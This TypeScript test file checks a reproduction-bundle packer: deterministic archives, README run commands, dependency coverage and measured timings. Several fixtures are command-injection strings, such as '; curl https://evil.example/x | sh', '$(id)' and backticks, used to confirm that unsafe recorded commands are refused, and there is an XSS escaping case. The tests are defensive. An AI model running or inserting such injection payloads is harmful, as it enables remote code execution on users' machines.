// Reproduction bundles: deterministic archives that standard tools read, with the files the
// README promises and dependencies that cover what the harness imports.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { bundleNeeds } from '../../../src/bundles/needs.ts';
import { packBundle, sha256sums } from '../../../src/bundles/pack.ts';
import { argsOf } from '../../../src/bundles/quick-look.ts';
import { BUNDLE_FILES, bundleReadme, markdownCell } from '../../../src/bundles/readme.ts';
import { BundleMeasurement, readMeasurements } from '../../../src/bundles/measurements.ts';
import { readRecords } from '../../../repro/harness/record/read.ts';
import { S3_LEAK_QUICK_FLAGS } from '../../../src/scenarios/s3-leak/bundle.ts';
import { S3_UPLOAD_QUICK_FLAGS } from '../../../src/scenarios/s3-upload/bundle.ts';
import { bundleScenarios } from '../../../src/bundles/scenarios.ts';
import { CORE_DEPENDENCIES } from '../../../src/bundles/package-json.ts';
import { codeSpans } from '../../../src/lib/code-spans.ts';
import { toCsv } from '../../../src/lib/csv.ts';
import type { RunRecord } from '../../../repro/core/record/schema.ts';
import { fixtureRecords } from './fixtures.ts';

const root = path.resolve(import.meta.dirname, '../../..');

function bundleReadmeOf(name: string, records: readonly RunRecord[] = fixtureRecords): string {
  const bundle = packBundle(name, root, records, 'https://example.org');
  const file = path.join(tmp, `readme-${name}.tar.gz`);
  writeFileSync(file, bundle.tarGz.bytes);
  return execFileSync('tar', ['-xzOf', file, `bun-casebook-${name}/README.md`], { encoding: 'utf8' });
}
const tmp = mkdtempSync(path.join(tmpdir(), 'bundle-test-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

test('packing twice gives identical bytes', () => {
  const a = packBundle('s3-leak', root, fixtureRecords, 'https://example.org');
  const b = packBundle('s3-leak', root, fixtureRecords, 'https://example.org');
  expect(a.tarGz.sha256).toBe(b.tarGz.sha256);
  expect(a.zip.sha256).toBe(b.zip.sha256);
  expect(sha256sums([a])).toBe(`${a.tarGz.sha256}  s3-leak.tar.gz\n${a.zip.sha256}  s3-leak.zip\n`);
});

test.each(bundleScenarios.map((s) => s.name))(
  '%s: tar and unzip read the same files, README files included',
  (name) => {
    const bundle = packBundle(name, root, fixtureRecords, 'https://example.org');
    writeFileSync(path.join(tmp, bundle.tarGz.name), bundle.tarGz.bytes);
    writeFileSync(path.join(tmp, bundle.zip.name), bundle.zip.bytes);
    const fromTar = execFileSync('tar', ['-tzf', path.join(tmp, bundle.tarGz.name)], { encoding: 'utf8' })
      .split('\n')
      .filter((l) => l && !l.endsWith('/'));
    expect(fromTar.sort()).toEqual(bundle.entries);
    execFileSync('unzip', ['-tq', path.join(tmp, bundle.zip.name)]);
    const out = path.join(tmp, `unzipped-${name}`);
    execFileSync('unzip', ['-q', path.join(tmp, bundle.zip.name), '-d', out]);
    const top = path.join(out, `bun-casebook-${name}`);
    for (const f of BUNDLE_FILES) expect(readFileSync(path.join(top, f)).length, f).toBeGreaterThan(0);
    expect(readFileSync(path.join(top, 'README.md'), 'utf8')).toMatch(/npm install\nnpm run repro/);
    const pkg = JSON.parse(readFileSync(path.join(top, 'package.json'), 'utf8'));
    expect(pkg.scripts.repro).toBe('node repro/harness/cli.ts');
    expect(pkg.casebook.scenario).toBe(name);
  },
);

test.each(bundleScenarios.map((s) => s.name))(
  '%s: the bundle carries the published run byte for byte, as the harness wrote it',
  (name) => {
    const bundle = packBundle(name, root, fixtureRecords, 'https://example.org');
    const reference = bundle.entries.filter((e) => e.includes(`/reference/${name}/`));
    // One file per build of the published run (the fixture run: two builds, or three for s3-upload).
    const published = fixtureRecords.filter((r) => r.scenario === name);
    expect(reference.length).toBe(published.length);
    const dir = path.join(tmp, `ref-${name}`);
    execFileSync('mkdir', ['-p', dir]);
    writeFileSync(path.join(dir, 'b.tar.gz'), bundle.tarGz.bytes);
    execFileSync('tar', ['-xzf', path.join(dir, 'b.tar.gz'), '-C', dir]);
    for (const entry of reference) {
      const record = JSON.parse(readFileSync(path.join(dir, entry), 'utf8'));
      // The fixtures are written with JSON.stringify; the harness writes formatJson. Same record, parsed.
      expect(record).toEqual(
        JSON.parse(JSON.stringify(published.find((r) => r.runtime.revision === record.runtime.revision))),
      );
    }
  },
);

test('record text cannot break out of a README table cell', () => {
  expect(markdownCell('a | b')).toBe('a \\| b');
  expect(markdownCell('<script>alert(1)</script>')).toBe('&lt;script&gt;alert(1)&lt;/script&gt;');
  expect(markdownCell('line\n| new row |')).toBe('line \\| new row \\|');
  expect(markdownCell('`code` & \\')).toBe('\\`code\\` &amp; \\\\');
});

test('the README says what --compare will check, from the published records', () => {
  const readme =
    packBundle('sql-pool', root, fixtureRecords, 'https://example.org').entries && bundleReadmeOf('sql-pool');
  expect(readme).toContain('npm run repro -- --faults terminate --orderings after --repetitions 3 --compare');
  expect(readme).toContain(
    '| 1.3.14 (Zig) | terminate/after | recovers 10/10 (72–100 %) | Fisher exact test on the outcome counts, Holm-adjusted |',
  );
  expect(readme).toContain('`REPRODUCED: …`');
  expect(bundleReadmeOf('s3-leak')).toContain('npm run repro -- --compare   # the whole run, as published');
  // The quick look comes first: the harness's quick protocol, compared with the published run.
  expect(bundleReadmeOf('s3-leak')).toContain(
    'npm install\nnpm run repro -- --quick --compare   # the quick look: a verdict for every build',
  );
  expect(bundleReadmeOf('s3-upload')).toContain(
    'npm install\nnpm run repro -- --repetitions 2 --control-payload-mib 64 --control-repetitions 1 --compare   # the quick look',
  );
  expect(
    argsOf('npm run repro -- sql-pool --repetitions 10 --kernel-blackhole --out content/runs/sql-pool', 'sql-pool'),
  ).toEqual({ ok: true, args: ['--repetitions', '10', '--kernel-blackhole'] });
});

test('a recorded command is read word by word as a shell reads it, and refused when it holds shell syntax', () => {
  const read = (command: string) => argsOf(command, 's3-leak');
  // Quoted words survive whole; the variables in front and --out (either form) are left out.
  expect(
    read(
      "DATABASE_URL='postgres://<redacted>@h/db' npm run repro -- s3-leak --s3-endpoint 'http://h:9000/a b' --s3-bucket \"my bucket\" --out=x --label it\\'s",
    ),
  ).toEqual({
    ok: true,
    args: ['--s3-endpoint', 'http://h:9000/a b', '--s3-bucket', 'my bucket', '--label', "it's"],
  });
  expect(read("npm run repro -- s3-leak --label 'it'\\''s; fine'")).toEqual({
    ok: true,
    args: ['--label', "it's; fine"],
  });
  for (const [command, why] of [
    ['npm run repro -- s3-leak --max-iterations 300; curl https://evil.example/x | sh', "it holds ';' outside quotes"],
    ['npm run repro -- s3-leak --out $(curl evil.example)', "it holds '$' outside quotes"],
    ['npm run repro -- s3-leak --s3-bucket "$(id)"', "it holds '$' inside double quotes"],
    ['npm run repro -- s3-leak --s3-bucket `id`', "it holds '`' outside quotes"],
    ["npm run repro -- s3-leak --s3-bucket 'open", 'it holds an unclosed single quote'],
    [
      'npm run repro -- s3-leak --max-iterations 3\ncurl evil.example',
      'it holds a control character (U+000A) outside quotes',
    ],
    ['curl evil.example -- npm run repro -- s3-leak', 'it is not an `npm run repro -- …` command'],
  ])
    expect(read(command!)).toEqual({ ok: false, why });
});

/** The README's run block: the lines a reader pastes into a shell, comments and all. */
const runBlock = (readme: string) => /## Run\n\n```sh\n([\s\S]*?)```/.exec(readme)![1]!;

/**
 * Runs the README's run block in a real shell, with `npm` and `curl` replaced by scripts that write
 * their arguments down: what the shell would really have run.
 */
function runInShell(block: string): { npm: string[][]; curl: boolean } {
  const dir = mkdtempSync(path.join(tmp, 'shell-'));
  const log = path.join(dir, 'npm.log');
  writeFileSync(
    path.join(dir, 'npm'),
    `#!/bin/sh\nnode -e 'console.log(JSON.stringify(process.argv.slice(1)))' -- "$@" >> ${log}\n`,
    { mode: 0o755 },
  );
  writeFileSync(path.join(dir, 'curl'), `#!/bin/sh\ntouch ${path.join(dir, 'curl-ran')}\n`, { mode: 0o755 });
  writeFileSync(path.join(dir, 'sh'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  execFileSync('/bin/sh', ['-c', block], {
    cwd: dir,
    env: { ...process.env, PATH: `${dir}:${path.dirname(process.execPath)}:/usr/bin:/bin` },
  });
  const npm = existsSync(log)
    ? readFileSync(log, 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as string[])
    : [];
  return { npm, curl: existsSync(path.join(dir, 'curl-ran')) };
}

/** The fixture records, the s3-leak run's recorded command replaced. */
const withS3Command = (command: string) =>
  fixtureRecords.map((r) => (r.scenario === 's3-leak' ? { ...r, command } : r));

test("a published command with '; curl … | sh' in it: the README's commands run npm only, and never show it", () => {
  const readme = bundleReadmeOf(
    's3-leak',
    withS3Command('npm run repro -- s3-leak --max-iterations 300; curl https://evil.example/x | sh'),
  );
  expect(readme).not.toContain('curl');
  expect(readme).toContain("npm run repro -- --compare   # the scenario's defaults");
  expect(readme).toContain("The published run's recorded command is not repeated here: it holds ';' outside quotes.");
  expect(runInShell(runBlock(readme))).toEqual({
    npm: [['install'], ['run', 'repro', '--', '--quick', '--compare'], ['run', 'repro', '--', '--compare']],
    curl: false,
  });
});

test('a legitimately quoted argument reaches the harness whole, through a real shell', () => {
  // An --out with a space (the old split left half of it behind) and a bucket name with two spaces and a quote.
  const readme = bundleReadmeOf(
    's3-leak',
    withS3Command(
      "npm run repro -- s3-leak --out 'my runs/s3' --s3-endpoint 'http://127.0.0.1:9000/a  b' --s3-bucket 'it'\\''s'",
    ),
  );
  expect(runInShell(runBlock(readme)).npm).toEqual([
    ['install'],
    ['run', 'repro', '--', '--quick', '--compare'],
    ['run', 'repro', '--', '--s3-endpoint', 'http://127.0.0.1:9000/a  b', '--s3-bucket', "it's", '--compare'],
  ]);
});

test('a recorded command with backticks becomes one quoted word of the whole run, and no figure is claimed unmeasured', () => {
  const needs = bundleNeeds(
    bundleScenarios.find((s) => s.name === 's3-leak')!,
    withS3Command("npm run repro -- s3-leak --s3-bucket 'a`b'"),
    undefined,
  );
  expect(needs.full.command).toBe("npm run repro -- --s3-bucket 'a`b' --compare");
  expect(needs.quick!.took).toBe('has not been measured yet (`npm run bundles:measure`)');
  expect(codeSpans(needs.quick!.took).filter((p) => p.code)).toEqual([{ text: 'npm run bundles:measure', code: true }]);
  expect(needs.disk).toBe('not measured yet');
});

/** Bare imports reachable by static imports from an entry: the CLI, and the scenario module the registry loads. */
function staticBareImports(entry: string, seen = new Set<string>(), bare = new Set<string>()): Set<string> {
  if (seen.has(entry)) return bare;
  seen.add(entry);
  const text = readFileSync(entry, 'utf8');
  // Re-exports load their module too (repro/core/maths.ts: export { median } from 'd3-array').
  for (const m of text.matchAll(/^(?:import|export)\s+(?!type\b)[^'"]*?from\s+'([^']+)'/gm)) {
    const spec = m[1];
    if (spec.startsWith('.')) staticBareImports(path.resolve(path.dirname(entry), spec), seen, bare);
    else if (!spec.startsWith('node:'))
      bare.add(spec.startsWith('@') ? spec.split('/').slice(0, 2).join('/') : spec.split('/')[0]);
  }
  return bare;
}

test.each(bundleScenarios.map((s) => [s.name, s] as const))(
  "%s: bundle dependencies cover the harness's static imports",
  (name, s) => {
    const needed = staticBareImports(path.join(root, 'repro/harness/cli.ts'));
    staticBareImports(path.join(root, 'repro/scenarios', name, 'scenario.ts'), new Set(), needed);
    needed.delete('bun'); // the `bun` module exists only inside Bun (the probes), never loaded by Node
    const declared = [...new Set([...s.dependencies, ...CORE_DEPENDENCIES])];
    for (const dep of needed) expect(declared, `${name} needs ${dep}`).toContain(dep);
    const committed = JSON.parse(readFileSync(path.join(root, 'repro/bundles', name, 'package.json'), 'utf8'));
    expect(Object.keys(committed.dependencies).sort()).toEqual(declared.sort());
    const lock = JSON.parse(readFileSync(path.join(root, 'repro/bundles', name, 'package-lock.json'), 'utf8'));
    expect(lock.packages[''].dependencies).toEqual(committed.dependencies);
  },
);

test('csv quotes only what needs quoting', () => {
  expect(toCsv([{ a: 'x,y', b: 'say "hi"', c: null, d: 3 }])).toBe('a,b,c,d\r\n"x,y","say ""hi""",,3\r\n');
});

/** The scenario's bundle, unpacked alone in a folder of its own, with this project's node_modules linked in. */
let unpackings = 0;
function unpacked(name: string): { bundle: ReturnType<typeof packBundle>; top: string } {
  const bundle = packBundle(name, root, fixtureRecords, 'https://example.org');
  // A folder of its own each time: two tests may unpack the same bundle.
  const dir = path.join(tmp, `alone-${name}-${++unpackings}`);
  writeFileSync(`${dir}.tar.gz`, bundle.tarGz.bytes);
  execFileSync('mkdir', ['-p', dir]);
  execFileSync('tar', ['-xzf', `${dir}.tar.gz`, '-C', dir]);
  const top = path.join(dir, `bun-casebook-${name}`);
  symlinkSync(path.join(root, 'node_modules'), path.join(top, 'node_modules'));
  return { bundle, top };
}

test('a bundle carries only its own scenario (of the others, their record schemas), its harness runs with it alone, and its --help lists its flags', () => {
  const { bundle, top } = unpacked('s3-leak');
  expect(
    bundle.entries.filter((e) => e.includes('/repro/scenarios/sql-pool/')).map((e) => e.replace(/^[^/]+\//, '')),
  ).toEqual(['repro/scenarios/sql-pool/record.ts']);
  const node = path.join(root, 'node_modules/.bin/node');
  const help = execFileSync(node, ['repro/harness/cli.ts', '--help'], { cwd: top, encoding: 'utf8' });
  expect(help).toContain('s3-leak');
  expect(help).not.toContain('sql-pool');
  // What the README promises: every flag of its scenario, in the bundle's own --help.
  for (const flag of ['quick', 'max-iterations', 'compare', 'bun', 'out'])
    expect(help).toMatch(new RegExp(`^\\s+--${flag}\\b`, 'm'));
  const other = spawnSync(node, ['repro/harness/cli.ts', 'sql-pool'], { cwd: top, encoding: 'utf8' });
  expect(other.status).toBe(2);
  expect(other.stderr.trim()).toBe(
    'repro: scenario "sql-pool" is not part of this copy of the harness (a bundle carries only its own scenario)',
  );
});

test('from a bundle, --replay of its own published run serves the live page, its script and the whole stream', async () => {
  const { bundle, top } = unpacked('s3-upload');
  const records = bundle.entries
    .filter((e) => e.includes('/reference/s3-upload/'))
    .map((e) => e.slice(e.indexOf('/reference/') + 1));
  expect(records.length).toBeGreaterThan(0);
  const cli = spawn(
    path.join(root, 'node_modules/.bin/node'),
    ['repro/harness/cli.ts', 's3-upload', ...records.flatMap((r) => ['--replay', r]), '--speed', '10000'],
    { cwd: top },
  );
  try {
    let stdout = '';
    cli.stdout.setEncoding('utf8').on('data', (t: string) => (stdout += t));
    const url = await new Promise<string>((resolve, reject) => {
      cli.stdout.on('data', () => {
        const found = /(http:\/\/127\.0\.0\.1:\d+\/)/.exec(stdout)?.[1];
        if (found) resolve(found);
      });
      cli.on('exit', () => reject(new Error(`exited: ${stdout}`)));
    });
    for (const asset of ['', 'client.js', 'live.css', 'palette.css'])
      expect((await fetch(new URL(asset, url))).status, asset).toBe(200);
    // The stream, to its end: every upload of every build, and the compare verdict.
    const stream = await (await fetch(new URL('events', url))).body!.getReader();
    let text = '';
    while (!text.includes('event: end')) text += new TextDecoder().decode((await stream.read()).value);
    await stream.cancel();
    const runId = path.basename(records[0]!).split('_')[0];
    const uploads = fixtureRecords.flatMap((r) => (r.scenario === 's3-upload' && r.runId === runId ? r.uploads : []));
    expect(text.match(/^event: update$/gm)?.length).toBe(uploads.length);
    expect(text).toMatch(/"type":"end","status":"complete"/);
  } finally {
    const exited = new Promise((resolve) => cli.once('exit', resolve));
    cli.kill('SIGINT');
    await exited;
  }
});

/** A measurement as `npm run bundles:measure` writes it, for the given commands. */
function measurementFor(scenario: 'sql-pool' | 's3-leak', quick: string, full: string | null): BundleMeasurement {
  const timed = (command: string, wallMs: number) => ({
    command,
    wallMs,
    exitCode: 0,
    verdictLine: 'REPRODUCED: 4 reproduced, 0 differ, 0 not comparable',
    startedAt: '2026-12-06T19:50:00.000Z',
    loadAverage: [3.14, 2, 1] as [number, number, number],
  });
  return BundleMeasurement.parse({
    scenario,
    tarGzSha256: 'a'.repeat(64),
    install: { ...timed('npm install', 95_000), verdictLine: null, bytesOnDisk: 712 * 1024 * 1024 },
    quick: timed(quick, 16_500),
    full: full === null ? null : timed(full, 161_500),
    fullNotMeasured: full === null ? 'the whole run was left out of this measurement (--quick-only)' : null,
    host: { os: 'Debian GNU/Linux 13 (trixie)', cpuModel: 'x', cores: 2, totalMemoryBytes: 8 * 1024 ** 3 },
    npm: '11.19.1',
    node: 'v24.21.0',
    commit: '0123456789abcdef0123456789abcdef01234567',
    dirty: false,
  });
}

test("a bundle states measured times only: its quick look as measured, a whole run not timed in a bundle from the published records' span", () => {
  const sql = bundleScenarios.find((s) => s.name === 'sql-pool')!;
  const [zig, rust] = fixtureRecords.filter((r) => r.scenario === 'sql-pool');
  // Interleaved: both records span the same 31 minutes; adding them up would say 62.
  const at = (r: typeof zig, startedAt: string, endedAt: string) => ({ ...r, startedAt, endedAt });
  const run = [
    at(zig!, '2026-05-04T10:00:00.000Z', '2026-05-04T10:30:30.000Z'),
    at(rust!, '2026-05-04T10:00:01.000Z', '2026-05-04T10:31:00.000Z'),
  ];
  const records = [...fixtureRecords.filter((r) => r.scenario !== 'sql-pool'), ...run];
  const quick = sql.quickLook(records)!;
  const quickCommand = `npm run repro -- ${quick.args.join(' ')}`;
  const needs = bundleNeeds(sql, records, measurementFor('sql-pool', quickCommand, null));
  expect(needs.quick).toEqual({
    command: quickCommand,
    wall: '16.5 s',
    took: 'took 16.5 s on a 2-core host (load average 3.1) on 2026-12-06, ending `REPRODUCED: 4 reproduced, 0 differ, 0 not comparable`',
  });
  expect(needs.full.took).toBe(
    'was not timed in a bundle; the published run took 31 min 0 s on a 2-core host on 2026-05-04',
  );
  expect(needs.install.took).toMatch(/^took 1 min 35 s on a 2-core host/);
  expect(needs.disk).toBe(
    '712 MiB on disk once installed (`du` of the unpacked bundle after `npm install`, on Debian GNU/Linux 13 (trixie))',
  );
  // A measurement of another command times nothing here.
  const stale = bundleNeeds(sql, records, measurementFor('sql-pool', 'npm run repro -- --compare', null));
  expect(stale.quick!.wall).toBeNull();
});

test('the README gives the quick look first, then the whole run, each with its measured time and where it was measured', () => {
  const s3 = bundleScenarios.find((s) => s.name === 's3-leak')!;
  const needs = bundleNeeds(
    s3,
    fixtureRecords,
    measurementFor('s3-leak', 'npm run repro -- --quick --compare', 'npm run repro -- --compare'),
  );
  const readme = bundleReadme(s3, fixtureRecords, 'https://example.org', needs);
  expect(runBlock(readme)).toBe(
    'npm install\nnpm run repro -- --quick --compare   # the quick look: a verdict for every build (16.5 s)\nnpm run repro -- --compare   # the whole run, as published (2 min 42 s)\n',
  );
  expect(readme).toContain(
    '- The quick look took 16.5 s on a 2-core host (load average 3.1) on 2026-12-06, ending `REPRODUCED: 4 reproduced, 0 differ, 0 not comparable`.',
  );
  expect(readme).toContain('- The whole run took 2 min 42 s on a 2-core host (load average 3.1) on 2026-12-06');
  expect(readme).toContain('at commit 0123456789ab;');
});

test("the quick looks of the S3 bundles are the harness's own quick protocols", async () => {
  const { s3Leak } = await import('../../../repro/scenarios/s3-leak/scenario.ts');
  const { s3Upload } = await import('../../../repro/scenarios/s3-upload/scenario.ts');
  expect(S3_LEAK_QUICK_FLAGS).toEqual(s3Leak.quick[0]!.flags);
  expect(S3_UPLOAD_QUICK_FLAGS).toEqual(s3Upload.quick[0]!.flags);
});

test('the committed measurements are valid and time the commands the published records give each bundle today', async () => {
  const published = (await readRecords([path.join(root, 'content/runs')])).map((l) => l.record);
  const measured = readMeasurements(root);
  for (const s of bundleScenarios) {
    const m = measured.bundles.find((b) => b.scenario === s.name);
    expect(m, `${s.name}: no measurement; run npm run bundles:measure`).toBeDefined();
    const needs = bundleNeeds(s, published, m);
    expect(
      needs.quick?.wall,
      `${s.name}: the quick look measured is not today's; run npm run bundles:measure -- ${s.name}`,
    ).not.toBeNull();
    expect(needs.full.wall, `${s.name}: the whole run has no time`).not.toBeNull();
    expect(needs.install.wall).not.toBeNull();
  }
});

test.each(bundleScenarios.map((s) => s.name))(
  '%s: the bundle answers "is my Bun affected?" offline, from the builds index it carries',
  (name) => {
    const { bundle, top } = unpacked(name);
    expect(bundle.entries).toContain(`bun-casebook-${name}/repro/affected/builds.json`);
    const node = path.join(root, 'node_modules/.bin/node');
    // No network at all where the machine allows a namespace of its own; the answer needs none.
    const isolated = spawnSync('unshare', ['-n', 'true']).status === 0;
    const [command, args] = isolated
      ? ['unshare', ['-n', node, 'repro/harness/cli.ts', 'affected', '1.4.2']]
      : [node, ['repro/harness/cli.ts', 'affected', '1.4.2']];
    const answer = spawnSync(command, args as string[], { cwd: top, encoding: 'utf8' });
    expect(answer.stderr).toBe('');
    expect(answer.status).toBe(1);
    expect(answer.stdout).toMatch(/^bun 1\.4\.2 \(1\.4\.2\+[0-9a-f]+, Rust\)/);
    // A bundle has no matrix records: each record is named by its place on the casebook.
    expect(answer.stdout).toMatch(/record: \/matrix\/\S+\.json on the casebook/);
  },
);
